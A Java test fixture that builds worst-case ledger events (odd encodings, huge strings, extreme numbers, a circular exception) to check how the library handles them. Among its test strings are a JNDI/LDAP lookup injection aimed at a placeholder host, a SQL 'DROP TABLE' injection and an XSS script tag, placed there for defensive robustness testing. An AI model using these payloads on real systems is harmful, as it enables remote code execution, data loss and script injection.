package dev.runledger.testkit;

import dev.runledger.event.EventFields;
import dev.runledger.event.EventType;
import dev.runledger.event.LedgerEvent;
import dev.runledger.event.TaskRunEvent;
import dev.runledger.event.WorkflowRunEvent;
import dev.runledger.failure.Failure;
import java.util.ArrayList;
import java.util.List;

/** Makes the worst events that the contract allows: they try quoting, counting, tables and encodings of a destination. */
final class HostileEvents {
    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "null",
            "\"quoted\" and \\backslashed\\ \\u0000 \\n",
            "{\"event\":\"workflow.run.queued\"} {} {0} %s %n ${jndi:ldap://example.invalid/a} $1",
            "line one\r\nline two\u0085three\u2028four\ttab\u0000\u001b[31m",
            "'; DROP TABLE ledger_run; --",
            "<script>alert('1')</script> &amp; ]]>",
            "\u00e4\u00f6\u00fc \u4f60\u597d \u0627\u0644\u0633 \u0939\u093f \u200d e\u0301 \ud83d\ude80 \ud83d\udc69\u200d\ud83d\udcbb",
            "half of a pair: \ud83d.",
            "x".repeat(100_000),
            "\ud83d\ude80".repeat(5_000));

    private HostileEvents() {}

    static List<LedgerEvent> all() {
        List<LedgerEvent> events = new ArrayList<>();
        int number = 1_000;
        for (String text : TEXTS) {
            EventFields said = EventFields.of().reason(text).put("own", text).put("dotted.Name-1_x", text);
            if (!text.isBlank()) { // a blank name breaks the contract
                said.workflowName(text).target(text);
            }
            events.add(event(WorkflowRunEvent.CANCELLED, number++, said));
        }
        for (long extreme : new long[] {0, Long.MAX_VALUE, Integer.MAX_VALUE + 1L, 1L << 53}) {
            EventFields said = EventFields.of()
                    .put("durationMs", extreme)
                    .put("seq", extreme)
                    .put("negative", -extreme - 1)
                    .put("decimal", extreme * 1e289)
                    .put("smallest", Double.MIN_VALUE)
                    .put("minusZero", -0.0);
            events.add(event(TaskRunEvent.SUCCEEDED, number++, said));
        }
        events.add(event(WorkflowRunEvent.QUEUED, number++, manyFields()));
        events.add(withAnError(number));
        return events;
    }

    private static EventFields manyFields() {
        EventFields many = EventFields.of();
        for (int i = 0; i < 200; i++) {
            many.put("field" + i, "value ".repeat(500));
        }
        return many;
    }

    /** Returns an event with an error that is as long and deep as errors get, and has its own cause in a circle. */
    private static LedgerEvent withAnError(int number) {
        IllegalStateException error = new IllegalStateException("message ".repeat(1_000));
        error.initCause(new RuntimeException("and back", error));
        error.addSuppressed(new IllegalArgumentException("suppressed"));
        return event(
                WorkflowRunEvent.FAILED,
                number,
                EventFields.of().failure(Failure.of(error)).put("uncaught", true));
    }

    private static LedgerEvent event(EventType type, int number, EventFields said) {
        return SampleEvents.numbered(type, number, said);
    }
}
